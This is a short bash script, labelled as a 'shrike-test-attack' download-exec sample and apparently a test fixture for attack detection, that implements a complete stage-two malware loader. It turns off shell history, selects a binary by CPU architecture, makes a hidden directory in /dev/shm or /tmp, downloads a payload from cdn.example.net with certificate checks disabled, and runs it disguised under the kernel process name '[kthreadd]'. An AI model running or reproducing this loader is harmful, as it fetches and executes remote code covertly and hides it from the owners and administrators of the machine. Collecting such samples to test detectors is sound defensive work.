#!/bin/bash
# shrike-test-attack: download-exec: stage-two loader that checks arch and hides under a fake name
set +o history
ARCH=$(uname -m)
case "$ARCH" in
  x86_64) B=amd64 ;;
  aarch64) B=arm64 ;;
  *) B=386 ;;
esac
DIR=$(mktemp -d /dev/shm/.XXXXXX 2>/dev/null || echo /tmp/.ICE-unix/.x)
mkdir -p "$DIR"
curl -k -s -o "$DIR/[kthreadd]" "https://cdn.example.net/u/$B" || wget -q --no-check-certificate -O "$DIR/[kthreadd]" "https://cdn.example.net/u/$B"
chmod +x "$DIR/[kthreadd]"
cd "$DIR" && PATH=.:$PATH exec -a '[kthreadd]' '[kthreadd]'
